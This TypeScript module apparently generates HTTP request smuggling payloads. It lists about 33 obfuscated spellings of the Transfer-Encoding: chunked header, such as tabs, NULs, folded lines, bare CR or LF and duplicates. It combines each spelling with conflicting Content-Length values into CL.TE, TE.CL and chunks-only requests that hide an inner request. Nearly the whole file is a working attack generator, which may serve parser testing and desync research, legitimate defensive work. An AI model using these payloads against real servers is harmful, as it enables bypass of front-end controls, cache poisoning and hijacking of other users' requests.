import type { Trick } from './request-framings.js';

const many = (count: number) => Array.from({ length: count }, (_, at) => `X-${at}: ${at}\r\n`).join('');

/** Ways to say, or nearly say, that a body comes in chunks. */
const codings: [name: string, lines: string][] = [
  ['plain', 'Transfer-Encoding: chunked'],
  ['a capital letter', 'Transfer-Encoding: Chunked'],
  ['no space', 'Transfer-Encoding:chunked'],
  ['a tab', 'Transfer-Encoding:\tchunked'],
  ['a space after', 'Transfer-Encoding: chunked '],
  ['a space before the colon', 'Transfer-Encoding : chunked'],
  ['a letter before', 'Transfer-Encoding: xchunked'],
  ['a letter after', 'Transfer-Encoding: chunkedx'],
  ['quotes', 'Transfer-Encoding: "chunked"'],
  ['single quotes', "Transfer-Encoding: 'chunked'"],
  ['identity after', 'Transfer-Encoding: chunked, identity'],
  ['identity before', 'Transfer-Encoding: identity, chunked'],
  ['identity alone', 'Transfer-Encoding: identity'],
  ['gzip before', 'Transfer-Encoding: gzip, chunked'],
  ['chunked twice', 'Transfer-Encoding: chunked, chunked'],
  ['an empty list', 'Transfer-Encoding: ,chunked'],
  ['a parameter', 'Transfer-Encoding: chunked;q=1'],
  ['a semicolon', 'Transfer-Encoding: ;chunked'],
  ['nothing', 'Transfer-Encoding:'],
  ['two lines', 'Transfer-Encoding: chunked\r\nTransfer-Encoding: x'],
  ['two lines the other way', 'Transfer-Encoding: x\r\nTransfer-Encoding: chunked'],
  ['the same line twice', 'Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked'],
  ['a folded value', 'Transfer-Encoding:\r\n chunked'],
  ['a colon on the next line', 'Transfer-Encoding\r\n: chunked'],
  ['a folded header', 'X: y\r\n Transfer-Encoding: chunked\r\nTransfer-Encoding: x'],
  ['a vertical tab', 'Transfer-Encoding: \x0bchunked'],
  ['a NUL before', 'Transfer-Encoding: \0chunked'],
  ['a NUL after', 'Transfer-Encoding: chunked\0'],
  ['a no-break space', 'Transfer-Encoding: \xa0chunked'],
  ['behind a bare CR', 'X: y\rTransfer-Encoding: chunked'],
  ['behind a bare LF', 'X: y\nTransfer-Encoding: chunked'],
  ['named by Connection', 'Connection: Transfer-Encoding\r\nTransfer-Encoding: chunked'],
  ['behind 110 headers', `${many(110)}Transfer-Encoding: chunked`],
];

const chunked = (text: string) => `${text.length.toString(16)}\r\n${text}\r\n0\r\n\r\n`;

/** Length and chunks contradict each other: whichever of the two a program believes, the other one sees two requests. */
export const bodyTricks: Trick[] = codings.flatMap(([name, lines]) => [
  {
    name: `CL.TE: ${name}`,
    bytes: ({ method, target, inner }) =>
      `${method} ${target} HTTP/1.1\r\nHost: a\r\nContent-Length: ${inner.length + 5}\r\n${lines}\r\n\r\n0\r\n\r\n${inner}`,
  },
  {
    name: `TE.CL: ${name}`,
    bytes: ({ method, target, inner }) => {
      const first = inner.length.toString(16).length + 2;
      return `${method} ${target} HTTP/1.1\r\nHost: a\r\n${lines}\r\nContent-Length: ${first}\r\n\r\n${chunked(inner)}`;
    },
  },
  {
    name: `chunks alone: ${name}`,
    // Where the coding does not count there is no body, so that nothing but a length tells where it ends.
    bytes: ({ method, target, inner }) =>
      `${method} ${target} HTTP/1.1\r\nHost: a\r\n${lines}\r\n\r\n${chunked(inner)}`,
  },
]);
